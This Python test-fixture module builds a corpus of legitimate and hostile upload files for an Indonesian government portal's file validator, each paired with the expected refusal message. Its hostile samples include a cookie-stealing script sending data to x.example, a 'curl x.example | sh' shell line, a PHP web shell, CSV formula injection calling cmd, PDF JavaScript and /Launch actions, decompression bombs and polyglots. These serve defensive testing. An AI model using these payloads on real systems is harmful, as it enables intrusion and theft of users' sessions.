"""The upload corpus, made at test time: legitimate files of every accepted kind, and hostile
ones — each with the words of the Indonesian refusal an editor must see.

Nothing binary is committed: the big cases (decompression bombs, oversized files) would
bloat the repository, and hostile samples in a repository trip scanners; as code, each case
also says how it is built. The EICAR test string is built by the ClamAV tests only.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from portal.core.contoh.gambar import jpeg_demo
from portal.core.contoh.pdf import pdf_demo
from portal.core.factories import TEKS_VIDEO_CONTOH, VIDEO_CONTOH
from portal.unggahan.arsip import MIMETYPE_ODF

MB = 1024 * 1024


@dataclass(frozen=True)
class Kasus:
    nama_berkas: str
    buat: object  # () -> bytes: built when the test runs, not at collection
    pesan: str = ""  # words of the refusal (empty for a legitimate file)

    def isi(self):
        return self.buat()


# -- legitimate images -------------------------------------------------------------------------


def _foto(mode="RGB"):
    return Image.open(io.BytesIO(jpeg_demo("Tepian Mahakam", 320, 180))).convert(mode)


def _simpan(gambar, format_, **opsi):
    keluaran = io.BytesIO()
    gambar.save(keluaran, format_, **opsi)
    return keluaran.getvalue()


def jpeg():
    return jpeg_demo("Tepian Mahakam", 320, 180)


def png():
    return _simpan(_foto(), "PNG")


def webp():
    return _simpan(_foto(), "WEBP", quality=80)


def avif():
    return _simpan(_foto(), "AVIF", quality=60)


def gif_animasi():
    bingkai = [_foto("P"), _foto().rotate(180).convert("P")]
    return _simpan(bingkai[0], "GIF", save_all=True, append_images=bingkai[1:], duration=500)


# -- legitimate documents ----------------------------------------------------------------------


def pdf():
    return pdf_demo("Laporan Kinerja 2025", ["Capaian kinerja Dinas Kominfo tahun 2025."])


def _pdf_dengan(ubah):
    penulis = PdfWriter(clone_from=io.BytesIO(pdf()))
    ubah(penulis)
    keluaran = io.BytesIO()
    penulis.write(keluaran)
    return keluaran.getvalue()


def pdf_dengan_lampiran(data):
    """The PDF with `data` as an embedded file (how a big PDF is made without big pages)."""
    return _pdf_dengan(lambda p: p.add_attachment("lampiran.bin", data))


def pdf_dibatasi_tanpa_sandi_pembuka():
    """Restrictions (no printing) under an owner password only: AES-encrypted, but anyone
    opens it — common for government PDFs."""
    return _pdf_dengan(
        lambda p: p.encrypt(
            user_password="", owner_password="pemilik", permissions_flag=0, algorithm="AES-128"
        )
    )


def _zip(anggota, awal=b""):
    keluaran = io.BytesIO(awal)
    keluaran.seek(len(awal))
    with zipfile.ZipFile(keluaran, "a" if awal else "w", zipfile.ZIP_DEFLATED) as arsip:
        for nama, data in anggota.items():
            tipe = zipfile.ZIP_STORED if nama == "mimetype" else zipfile.ZIP_DEFLATED
            arsip.writestr(nama, data, compress_type=tipe)
    return keluaran.getvalue()


TIPE_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TIPE_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" Type="http://schemas.openxmlformats.org'
    '/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_DOKUMEN_WORD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Laporan Layanan Informasi Publik</w:t></w:r></w:p></w:body>"
    "</w:document>"
)


def _jenis_konten(*override, awal=""):
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{awal}'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
        '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in override)
        + "</Types>"
    )


def docx(tipe=TIPE_DOCX, *tambahan, **bagian):
    return _zip(
        {
            "[Content_Types].xml": _jenis_konten(("/word/document.xml", tipe), *tambahan),
            "_rels/.rels": _RELS,
            "word/document.xml": _DOKUMEN_WORD,
            **bagian,
        }
    )


def xlsx():
    buku = Workbook()
    buku.active.append(["Kabupaten/Kota", "Jumlah permohonan"])
    buku.active.append(["Samarinda", 120])
    keluaran = io.BytesIO()
    buku.save(keluaran)
    return keluaran.getvalue()


TIPE_ODT = MIMETYPE_ODF["odt"]
_MANIFEST_ODT = (
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
    'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
    f'manifest:media-type="{TIPE_ODT}"/><manifest:file-entry manifest:full-path="content.xml" '
    'manifest:media-type="text/xml"/></manifest:manifest>'
)


def _isi_odt(peristiwa=""):
    return (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2">'
        f"{peristiwa}<office:body><office:text><text:p>Daftar Informasi Publik</text:p>"
        "</office:text></office:body></office:document-content>"
    )


def odt(**bagian):
    return _zip(
        {
            "mimetype": TIPE_ODT,
            "META-INF/manifest.xml": _MANIFEST_ODT,
            "content.xml": _isi_odt(),
            **bagian,
        }
    )


def csv_utf8():
    baris = ["Kabupaten/Kota;Jumlah", "Samarinda;120", "Kutai Kartanegara;87", "Mahakam Ulu;\u2013"]
    return "\n".join(baris).encode() + b"\n"


def csv_windows_1252():
    return "Nama;Jabatan\nJosé Ramos;Kepala Bidang\n".encode("cp1252")


def webm():
    return VIDEO_CONTOH.read_bytes()


def vtt():
    return TEKS_VIDEO_CONTOH.read_bytes()


def mp4():
    """An ISO base media file: `ftyp` (brand isom) and an empty `free` box."""
    return struct.pack(">I4s4sI8s", 24, b"ftyp", b"isom", 0x200, b"isomiso2") + struct.pack(
        ">I4s", 8, b"free"
    )


# -- hostile images ----------------------------------------------------------------------------


def _chunk_png(jenis, data):
    return struct.pack(">I", len(data)) + jenis + data + struct.pack(">I", zlib.crc32(jenis + data))


def png_polos(lebar, tinggi, sebelum_idat=b""):
    """A 1-bit grey PNG of zeros, written row by row: a huge picture in a few kilobytes."""
    pemampat = zlib.compressobj(9)
    baris = b"\0" * (1 + (lebar + 7) // 8)
    idat = b"".join(pemampat.compress(baris * 1000) for _ in range(tinggi // 1000))
    idat += pemampat.compress(baris * (tinggi % 1000)) + pemampat.flush()
    ihdr = struct.pack(">IIBBBBB", lebar, tinggi, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk_png(b"IHDR", ihdr)
        + sebelum_idat
        + _chunk_png(b"IDAT", idat)
        + _chunk_png(b"IEND", b"")
    )


def png_bom_teks():
    """A 10×10 PNG whose zTXt chunk inflates to 50 MB."""
    ztxt = b"Comment\0\0" + zlib.compress(b"\0" * 50 * MB, 9)
    return png_polos(10, 10, sebelum_idat=_chunk_png(b"zTXt", ztxt))


def gif_bingkai_banyak():
    """50 frames of 1000×1000: 50 million pixels in all, over the 40 MP limit."""
    bingkai = [Image.new("P", (1000, 1000), i % 2) for i in range(50)]
    return _simpan(bingkai[0], "GIF", save_all=True, append_images=bingkai[1:])


def jpeg_dengan_komentar(komentar):
    return _simpan(_foto(), "JPEG", comment=komentar)


def gif_dengan_komentar(komentar):
    return _simpan(_foto("P"), "GIF", comment=komentar)


def terpotong(data):
    return data[: len(data) * 6 // 10]


def rusak_di_tengah(data):
    """The first third kept, the rest overwritten: a file damaged in transfer."""
    sepertiga = len(data) // 3
    return data[:sepertiga] + bytes(range(256)) * ((len(data) - sepertiga) // 256 + 1)


def jpeg_berdimensi(lebar, tinggi):
    """A small JPEG whose frame header (SOF0, or SOF2 when progressive) claims another size: a
    bomb in a few kilobytes."""
    data = bytearray(jpeg())
    sof = min(i for i in (data.find(b"\xff\xc0"), data.find(b"\xff\xc2")) if i >= 0)
    data[sof + 5 : sof + 9] = struct.pack(">HH", tinggi, lebar)
    return bytes(data)


def png_dengan_teks(kunci, teks):
    return png_polos(10, 10, sebelum_idat=_chunk_png(b"tEXt", kunci + b"\0" + teks))


def tepat_di_atas(batas, data):
    """`data` padded with zeros to one byte over `batas`."""
    return data + b"\0" * (batas + 1 - len(data))


def gifar():
    """GIF + Java archive (the GIFAR of applet days): an image to the browser, a JAR to Java."""
    jar = _zip({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nMain-Class: A\n", "A.class": "x"})
    return gif_dengan_komentar(b"gambar") + jar


SVG_SKRIP = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/').then(r=>r.text()).then(alert)</script></svg>"
)
HTML = (
    b"<!DOCTYPE html><html><body>"
    b"<script>document.location='//x.example/'+document.cookie</script></body></html>"
)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\0" * 48
    + b"PE\0\0"
    + b"\0" * 200
)
ZIP_KECIL = _zip({"baca.txt": "arsip tersembunyi"})
JAVASCRIPT = b"var s=new ActiveXObject('WScript.Shell');s.Run('calc');"
PESAN_SVG = "Gambar SVG tidak diterima"
BUKAN_GAMBAR = "bukan gambar yang dapat dibaca"
BERISI_MARKUP = "berisi markup"

KASUS_GAMBAR_SAH = [
    Kasus("tepian-mahakam.jpg", jpeg),
    Kasus("tepian-mahakam.png", png),
    Kasus("tepian-mahakam.webp", webp),
    Kasus("tepian-mahakam.avif", avif),
    Kasus("tepian-mahakam.gif", gif_animasi),
]

KASUS_GAMBAR_BERBAHAYA = {
    "html_menyamar_jpg": Kasus("foto.jpg", lambda: HTML, "berisi markup"),
    "skrip_shell_menyamar_png": Kasus(
        "foto.png", lambda: b"#!/bin/sh\ncurl x.example | sh\n", "bukan gambar yang dapat dibaca"
    ),
    "program_exe_menyamar_jpg": Kasus("foto.jpg", lambda: PE, "bukan gambar yang dapat dibaca"),
    "svg_dengan_skrip": Kasus("logo.svg", lambda: SVG_SKRIP, "Gambar SVG tidak diterima"),
    "svg_menyamar_png": Kasus("logo.png", lambda: SVG_SKRIP, "Gambar SVG tidak diterima"),
    "jpeg_dengan_html_di_komentar": Kasus(
        "foto.jpg", lambda: jpeg_dengan_komentar(HTML), "memuat kode HTML atau skrip"
    ),
    "gif_poliglot_javascript": Kasus(
        "foto.gif",
        lambda: gif_dengan_komentar(b"*/=1;javascript:alert(document.domain)//"),
        "memuat kode HTML atau skrip",
    ),
    "png_poliglot_zip": Kasus("foto.png", lambda: png() + ZIP_KECIL, "poliglot"),
    "jpeg_poliglot_pdf": Kasus(
        "foto.jpg", lambda: jpeg_dengan_komentar(b"%PDF-1.4\n1 0 obj<<>>endobj"), "poliglot"
    ),
    "png_terpotong": Kasus("foto.png", lambda: terpotong(png()), "rusak atau terpotong"),
    "jpeg_terpotong": Kasus("foto.jpg", lambda: terpotong(jpeg()), "rusak atau terpotong"),
    "webp_terpotong": Kasus("foto.webp", lambda: terpotong(webp()), "isinya rusak"),
    "png_bom_dekompresi_400_megapiksel": Kasus(
        "bom.png", lambda: png_polos(20_000, 20_000), "terlalu banyak piksel (bom dekompresi)"
    ),
    "png_49_megapiksel": Kasus(
        "besar.png", lambda: png_polos(7000, 7000), "terlalu banyak piksel (49.000.000)"
    ),
    "gif_animasi_50_megapiksel": Kasus(
        "animasi.gif", gif_bingkai_banyak, "terlalu banyak piksel (50.000.000)"
    ),
    "png_bom_teks_ztxt": Kasus("teks.png", png_bom_teks, "bukan gambar yang dapat dibaca"),
    "gambar_lebih_dari_10_mb": Kasus(
        "besar.png", lambda: png() + b"\0" * (10 * MB), "terlalu besar"
    ),
    "webp_berekstensi_jpg": Kasus(
        "foto.jpg", webp, "tidak sesuai dengan ekstensinya: berkas .jpeg ini berformat webp"
    ),
    "bmp_tidak_diterima": Kasus(
        "peta.bmp", lambda: _simpan(_foto(), "BMP"), "Format gambar ini tidak diterima"
    ),
    "nama_penelusuran_folder_tersandi": Kasus(
        "..%2F..%2Fportal%2Fsettings%2Fbase.png", png, "penelusuran folder"
    ),
    "nama_ekstensi_ganda_php": Kasus("foto.php.jpg", jpeg, "ekstensi berbahaya (.php)"),
    "nama_titik_dua_windows": Kasus("C:foto.jpg", jpeg, "titik dua"),
    "html_menyamar_png": Kasus("foto.png", lambda: HTML, BERISI_MARKUP),
    "html_menyamar_gif": Kasus("foto.gif", lambda: HTML, BERISI_MARKUP),
    "html_menyamar_webp": Kasus("foto.webp", lambda: HTML, BERISI_MARKUP),
    "html_menyamar_avif": Kasus("foto.avif", lambda: HTML, BERISI_MARKUP),
    "html_berbom_utf8_menyamar_jpg": Kasus(
        "foto.jpg", lambda: b"\xef\xbb\xbf" + HTML, BERISI_MARKUP
    ),
    "javascript_menyamar_jpg": Kasus("foto.jpg", lambda: JAVASCRIPT, BUKAN_GAMBAR),
    "javascript_menyamar_png": Kasus("foto.png", lambda: JAVASCRIPT, BUKAN_GAMBAR),
    "program_exe_menyamar_gif": Kasus("foto.gif", lambda: PE, BUKAN_GAMBAR),
    "pdf_menyamar_jpg": Kasus("foto.jpg", pdf, BUKAN_GAMBAR),
    "zip_menyamar_png": Kasus("foto.png", lambda: ZIP_KECIL, BUKAN_GAMBAR),
    **{
        f"svg_menyamar_{ekstensi}": Kasus(f"logo.{ekstensi}", lambda: SVG_SKRIP, PESAN_SVG)
        for ekstensi in ("jpg", "jpeg", "gif", "webp", "avif")
    },
    "svgz_dengan_skrip": Kasus("logo.svgz", lambda: zlib.compress(SVG_SKRIP), PESAN_SVG),
    "svg_tanpa_deklarasi_xml_menyamar_png": Kasus(
        "logo.png", lambda: b"<svg onload=alert(1)>", PESAN_SVG
    ),
    "gifar_gif_dan_jar": Kasus("foto.gif", gifar, "poliglot"),
    "jpeg_poliglot_zip": Kasus("foto.jpg", lambda: jpeg() + ZIP_KECIL, "poliglot"),
    "webp_poliglot_zip": Kasus("foto.webp", lambda: webp() + ZIP_KECIL, "poliglot"),
    "png_dengan_php_di_teks": Kasus(
        "foto.png",
        lambda: png_dengan_teks(b"Comment", b"<?php system($_GET['c']); ?>"),
        "memuat kode HTML atau skrip",
    ),
    "png_dengan_iframe_di_teks": Kasus(
        "foto.png",
        lambda: png_dengan_teks(b"Comment", b'<iframe src="//x.example/">'),
        "memuat kode HTML atau skrip",
    ),
    "gif_terpotong": Kasus(
        "foto.gif", lambda: terpotong(gif_dengan_komentar(b"x")), "rusak atau terpotong"
    ),
    "avif_terpotong": Kasus("foto.avif", lambda: terpotong(avif()), "isinya rusak"),
    "jpeg_rusak_di_tengah": Kasus(
        "foto.jpg", lambda: rusak_di_tengah(jpeg()), "rusak atau terpotong"
    ),
    "png_rusak_di_tengah": Kasus(
        "foto.png", lambda: rusak_di_tengah(png()), "rusak atau terpotong"
    ),
    "jpeg_bom_dimensi_palsu": Kasus(
        "foto.jpg", lambda: jpeg_berdimensi(60_000, 60_000), "terlalu banyak piksel"
    ),
    "png_tepat_di_atas_40_megapiksel": Kasus(
        "besar.png", lambda: png_polos(8000, 5001), "terlalu banyak piksel (40.008.000)"
    ),
    "jpeg_tepat_di_atas_10_mb": Kasus(
        "besar.jpg", lambda: tepat_di_atas(10 * MB, jpeg()), "terlalu besar"
    ),
    "tiff_tidak_diterima": Kasus(
        "peta.tiff", lambda: _simpan(_foto(), "TIFF"), "Format gambar ini tidak diterima"
    ),
    "ico_tidak_diterima": Kasus(
        "ikon.ico", lambda: _simpan(_foto(), "ICO"), "Format gambar ini tidak diterima"
    ),
    "png_berekstensi_gif": Kasus("foto.gif", png, "tidak sesuai dengan ekstensinya"),
    "nama_ekstensi_ganda_html": Kasus("foto.html.png", png, "ekstensi berbahaya (.html)"),
    "nama_diawali_titik": Kasus(".htaccess.jpg", jpeg, "diawali titik"),
    "nama_250_karakter": Kasus("a" * 246 + ".jpg", jpeg, "Nama berkas terlalu panjang (250"),
}

# -- hostile documents -------------------------------------------------------------------------


def pdf_object_stream_javascript():
    """A hand-written PDF 1.5 whose catalog, page tree and JavaScript action all sit in one
    Flate-compressed object stream, indexed by an xref stream: no "/JavaScript" in the raw
    bytes."""
    objek = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
    ]
    posisi, tubuh = [], b""
    for isi in objek:
        posisi.append(len(tubuh))
        tubuh += isi + b"\n"
    kepala = b" ".join(b"%d %d" % (n, p) for n, p in enumerate(posisi, start=1)) + b"\n"
    aliran = zlib.compress(kepala + tubuh)
    keluaran = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    ofset_stm = len(keluaran)
    keluaran += (
        b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(kepala), len(aliran))
        + aliran
        + b"\nendstream\nendobj\n"
    )
    ofset_xref = len(keluaran)
    baris = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    baris += [struct.pack(">BIH", 2, 5, i) for i in range(4)]
    baris += [struct.pack(">BIH", 1, ofset_stm, 0), struct.pack(">BIH", 1, ofset_xref, 0)]
    data = b"".join(baris)
    keluaran += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % ofset_xref
    )
    return keluaran


def _javascript_saat_dibuka(penulis):
    penulis._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1);"),
        }
    )


def _luncurkan(penulis):
    penulis._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )


def docx_bom():
    """A .docx whose one extra part is 100 MB of zeros (deflated to about 100 KB)."""
    return docx(**{"word/media/kosong.bin": b"\0" * 100 * MB})


def xlsx_dengan_lembar_makro():
    """An .xlsx with an Excel 4.0 macro sheet added (the XLM macros of malware campaigns)."""
    with zipfile.ZipFile(io.BytesIO(xlsx())) as asli:
        anggota = {n: asli.read(n) for n in asli.namelist()}
    tipe = anggota["[Content_Types].xml"].decode()
    anggota["[Content_Types].xml"] = tipe.replace(
        "</Types>",
        '<Override PartName="/xl/macrosheets/sheet2.xml" '
        'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    )
    anggota["xl/macrosheets/sheet2.xml"] = b"<xm:macrosheet/>"
    return _zip(anggota)


def _rels_dokumen(*relasi):
    """word/_rels/document.xml.rels with (type, target, external) relationships."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument'
            f'/2006/relationships/{jenis}" Target="{tujuan}"'
            + (' TargetMode="External"' if luar else "")
            + "/>"
            for n, (jenis, tujuan, luar) in enumerate(relasi, start=10)
        )
        + "</Relationships>"
    )


def docx_dengan_relasi(*relasi):
    return docx(**{"word/_rels/document.xml.rels": _rels_dokumen(*relasi)})


def xlsx_dengan(**bagian):
    with zipfile.ZipFile(io.BytesIO(xlsx())) as asli:
        anggota = {n: asli.read(n) for n in asli.namelist()}
    return _zip({**anggota, **bagian})


TIPE_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
TIPE_PPTM = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
TIPE_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def ooxml(bagian_utama, tipe, *tambahan, **bagian):
    """A minimal package whose main part `bagian_utama` has content type `tipe`."""
    rels = _RELS.replace("word/document.xml", bagian_utama)
    return _zip(
        {
            "[Content_Types].xml": _jenis_konten((f"/{bagian_utama}", tipe), *tambahan),
            "_rels/.rels": rels,
            bagian_utama: "<p:presentation/>",
            **bagian,
        }
    )


def odf(tipe, **bagian):
    """An OpenDocument package of mimetype `tipe` (text content, enough for the checks)."""
    return _zip(
        {
            "mimetype": tipe,
            "META-INF/manifest.xml": _MANIFEST_ODT.replace(TIPE_ODT, tipe),
            "content.xml": _isi_odt(),
            **bagian,
        }
    )


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"\xec\xa5\xc1\x00" + b"\0" * 1500
TIPE_VBA = ("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
BOM_XML = (
    '<!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
PERISTIWA_MAKRO = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
    '?language=Basic&amp;location=document"/></office:event-listeners>'
)

KASUS_DOKUMEN_SAH = [
    Kasus("laporan-kinerja.pdf", pdf),
    Kasus("laporan-dibatasi.pdf", pdf_dibatasi_tanpa_sandi_pembuka),
    Kasus("laporan-layanan.docx", docx),
    Kasus(
        "laporan-bertautan.docx",  # a link the reader clicks is fine
        lambda: docx_dengan_relasi(("hyperlink", "https://kaltimprov.go.id/", True)),
    ),
    Kasus("rekap-permohonan.xlsx", xlsx),
    Kasus("daftar-informasi.odt", odt),
    Kasus("rekap.csv", csv_utf8),
    Kasus("pejabat.csv", csv_windows_1252),
    Kasus("video-contoh.webm", webm),
    Kasus("video-contoh.vtt", vtt),
    Kasus("video.mp4", mp4),
]

KASUS_DOKUMEN_BERBAHAYA = {
    "html_menyamar_pdf": Kasus("laporan.pdf", lambda: HTML, "ternyata HTML"),
    "javascript_menyamar_pdf": Kasus(
        "laporan.pdf",
        lambda: b"var s=new ActiveXObject('WScript.Shell');s.Run('calc');",
        "ternyata berkas jenis lain",
    ),
    "program_exe_menyamar_pdf": Kasus(
        "laporan.pdf", lambda: PE, "ternyata application/x-msdownload"
    ),
    "html_menyamar_docx": Kasus("laporan.docx", lambda: HTML, "ternyata HTML"),
    "html_dengan_kepala_pdf_di_kilobyte_pertama": Kasus(
        "laporan.pdf", lambda: b"<html><!-- " + pdf()[:200] + b" --></html>", "ternyata HTML"
    ),
    "pdf_poliglot_html": Kasus(
        "laporan.pdf",
        lambda: pdf().replace(b"%%EOF", b"<html><script>alert(1)</script></html>\n%%EOF"),
        "memuat kode HTML atau skrip (<html>)",
    ),
    "pdf_poliglot_zip": Kasus("laporan.pdf", lambda: _zip({"a.txt": "x"}, awal=pdf()), "poliglot"),
    "pdf_dengan_javascript": Kasus(
        "laporan.pdf", lambda: _pdf_dengan(_javascript_saat_dibuka), "JavaScript"
    ),
    "pdf_dengan_javascript_di_object_stream": Kasus(
        "laporan.pdf", pdf_object_stream_javascript, "JavaScript atau perintah"
    ),
    "pdf_meluncurkan_program": Kasus("laporan.pdf", lambda: _pdf_dengan(_luncurkan), "/Launch"),
    "pdf_terpotong": Kasus("laporan.pdf", lambda: terpotong(pdf()), "rusak atau terpotong"),
    "pdf_kepala_saja": Kasus("laporan.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "rusak atau terpotong"),
    "pdf_bersandi": Kasus(
        "laporan.pdf",
        lambda: _pdf_dengan(lambda p: p.encrypt(user_password="rahasia", algorithm="AES-128")),
        "dilindungi kata sandi",
    ),
    "docm_bermakro": Kasus("laporan.docm", lambda: docx(TIPE_DOCM, TIPE_VBA), "bermakro (.docm)"),
    "docx_berisi_makro_vba": Kasus(
        "laporan.docx",
        lambda: docx(TIPE_DOCM, TIPE_VBA, **{"word/vbaProject.bin": OLE}),
        "memuat makro",
    ),
    "docx_berisi_vbaproject_tanpa_tipe": Kasus(
        "laporan.docx", lambda: docx(**{"word/vbaProject.bin": OLE}), "word/vbaProject.bin"
    ),
    "xlsx_dengan_lembar_makro_excel4": Kasus(
        "rekap.xlsx", xlsx_dengan_lembar_makro, "application/vnd.ms-excel.macrosheet+xml"
    ),
    "doc_lama": Kasus("laporan.doc", lambda: OLE, "Format Office lama (.doc)"),
    "xls_lama": Kasus("rekap.xls", lambda: OLE, "Format Office lama (.xls)"),
    "docx_sebenarnya_ole_terenkripsi": Kasus("laporan.docx", lambda: OLE, "(OLE)"),
    "xlsx_berekstensi_docx": Kasus("rekap.docx", xlsx, "ternyata dokumen .xlsx"),
    "odt_dengan_makro_basic": Kasus(
        "daftar.odt",
        lambda: odt(**{"Basic/Standard/Module1.xml": "<script:module/>"}),
        "memuat makro",
    ),
    "odt_dengan_peristiwa_skrip": Kasus(
        "daftar.odt", lambda: odt(**{"content.xml": _isi_odt(PERISTIWA_MAKRO)}), "content.xml"
    ),
    "odt_berekstensi_ods": Kasus("daftar.ods", odt, "ternyata dokumen .odt"),
    "docx_bom_dekompresi": Kasus("laporan.docx", docx_bom, "bom dekompresi"),
    "docx_bom_entitas_xml": Kasus(
        "laporan.docx",
        lambda: _zip(
            {"[Content_Types].xml": _jenis_konten(("/word/document.xml", TIPE_DOCX), awal=BOM_XML)}
        ),
        "rusak",
    ),
    "docx_arsip_rusak": Kasus("laporan.docx", lambda: b"PK\x03\x04" + b"\x17" * 400, "rusak"),
    "csv_berisi_html": Kasus("data.csv", lambda: HTML, "berisi markup"),
    "csv_berisi_skrip": Kasus(
        "data.csv", lambda: b"nama;nilai\nx;<script>alert(1)</script>\n", "(<script)"
    ),
    "csv_biner": Kasus(
        "data.csv", lambda: b"nama;nilai\nx;\x00\x01\x02\n", "tanpa karakter kendali"
    ),
    "vtt_berisi_skrip": Kasus(
        "teks.vtt",
        lambda: vtt() + b"\n00:09.000 --> 00:10.000\n<script>alert(1)</script>\n",
        "(<script)",
    ),
    "vtt_tanpa_kepala": Kasus("teks.vtt", lambda: b"1\n00:00.000 --> 00:01.000\nHalo\n", "WEBVTT"),
    "webm_berekstensi_mp4": Kasus("video.mp4", webm, "ternyata video/webm"),
    "dokumen_lebih_dari_50_mb": Kasus(
        "besar.pdf", lambda: pdf() + b"\0" * (50 * MB), "terlalu besar"
    ),
    "svg_sebagai_dokumen": Kasus(
        "logo.svg", lambda: SVG_SKRIP, "Format berkas .svg tidak diterima"
    ),
    "program_exe": Kasus("pemasang.exe", lambda: PE, "Format berkas .exe tidak diterima"),
    "nama_penelusuran_folder_tersandi": Kasus(
        "..%2F..%2Fportal%2Fsettings%2Fbase.pdf", pdf, "penelusuran folder"
    ),
    "nama_ekstensi_ganda_exe": Kasus("laporan.exe.pdf", pdf, "ekstensi berbahaya (.exe)"),
    "javascript_menyamar_docx": Kasus(
        "laporan.docx", lambda: JAVASCRIPT, "ternyata berkas jenis lain"
    ),
    "html_menyamar_xlsx": Kasus("rekap.xlsx", lambda: HTML, "ternyata HTML"),
    "html_menyamar_odt": Kasus("daftar.odt", lambda: HTML, "ternyata HTML"),
    "html_menyamar_csv": Kasus(
        "data.csv", lambda: b"\n\n  <html><body>x</body></html>", BERISI_MARKUP
    ),
    "xml_menyamar_csv": Kasus("data.csv", lambda: b'<?xml version="1.0"?><a/>', BERISI_MARKUP),
    "csv_berisi_iframe": Kasus(
        "data.csv", lambda: b'nama;nilai\nx;<iframe src="//x.example/">\n', "(<iframe)"
    ),
    "csv_injeksi_rumus_dde": Kasus(
        "data.csv",
        lambda: b"nama;nilai\nx;=cmd|' /C calc'!A0\n",
        "memuat rumus lembar kerja (=cmd|)",
    ),
    "csv_injeksi_rumus_hyperlink": Kasus(
        "data.csv",
        lambda: b'nama,tautan\nx,"=HYPERLINK(""http://x.example/?""&A1,""Klik"")"\n',
        "memuat rumus lembar kerja (=HYPERLINK()",
    ),
    "csv_injeksi_rumus_at": Kasus(
        "data.csv", lambda: b"nama;nilai\nx;@SUM(1+1)*cmd|' /C calc'!A0\n", "(@SUM()"
    ),
    "csv_utf16": Kasus(
        "data.csv", lambda: "nama;nilai\nx;1\n".encode("utf-16"), "tanpa karakter kendali"
    ),
    "program_exe_menyamar_csv": Kasus("data.csv", lambda: PE, "tanpa karakter kendali"),
    "program_exe_menyamar_mp4": Kasus("video.mp4", lambda: PE, "ternyata application/x-msdownload"),
    "html_menyamar_webm": Kasus("video.webm", lambda: HTML, "ternyata HTML"),
    "mp4_berekstensi_webm": Kasus("video.webm", mp4, "ternyata video/mp4"),
    "mp4_poliglot_zip": Kasus("video.mp4", lambda: mp4() + ZIP_KECIL, "poliglot"),
    "webm_poliglot_pdf": Kasus(
        "video.webm", lambda: webm()[:200] + b"%PDF-1.4" + webm()[200:], "poliglot"
    ),
    "vtt_berisi_html": Kasus(
        "teks.vtt", lambda: b"WEBVTT\n\n00:00.000 --> 00:01.000\n<iframe src=x>\n", "(<iframe)"
    ),
    "html_menyamar_vtt": Kasus("teks.vtt", lambda: HTML, "WEBVTT"),
    "pdf_poliglot_html_di_awal": Kasus(
        "laporan.pdf", lambda: pdf().replace(b"%PDF-", b"<html>%PDF-", 1), "ternyata HTML"
    ),
    "pdf_dengan_html_di_komentar": Kasus(
        "laporan.pdf",
        lambda: pdf().replace(b"\n", b"\n%<iframe src=//x.example/>\n", 1),
        "memuat kode HTML atau skrip",
    ),
    "pdf_tepat_di_atas_50_mb": Kasus(
        "besar.pdf", lambda: tepat_di_atas(50 * MB, pdf()), "terlalu besar"
    ),
    "xlsm_bermakro": Kasus(
        "rekap.xlsm",
